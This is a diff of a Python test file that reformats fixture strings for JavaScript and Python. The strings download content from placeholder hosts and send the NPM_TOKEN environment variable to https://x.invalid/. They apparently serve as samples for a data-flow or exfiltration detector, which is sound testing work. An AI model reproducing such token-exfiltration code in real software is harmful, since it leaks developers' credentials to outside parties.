@@ -156,13 +156,17 @@ def test_objects_within_objects(levels: int) -> None:
 AFTER_OTHER_FLOWS = {
     "javascript": (
         javascript,
-        "<<fetch('https://h#.invalid/').then(r=>r.text()).then(t=>require('fs').writeFileSync('f#',t));>>"
-        "fetch('https://x.invalid/'+process.env.NPM_TOKEN)",
+        (
+            "<<fetch('https://h#.invalid/').then(r=>r.text()).then(t=>require('fs').writeFileSync('f#',t));>>"
+            "fetch('https://x.invalid/'+process.env.NPM_TOKEN)"
+        ),
     ),
     "python": (
         python,
-        "import os,urllib.request as r\n<<open('f#','wb').write(r.urlopen('https://h#.invalid/').read())\n>>"
-        "r.urlopen('https://x.invalid/'+os.environ['NPM_TOKEN'])",
+        (
+            "import os,urllib.request as r\n<<open('f#','wb').write(r.urlopen('https://h#.invalid/').read())\n>>"
+            "r.urlopen('https://x.invalid/'+os.environ['NPM_TOKEN'])"
+        ),
     ),
 }
 
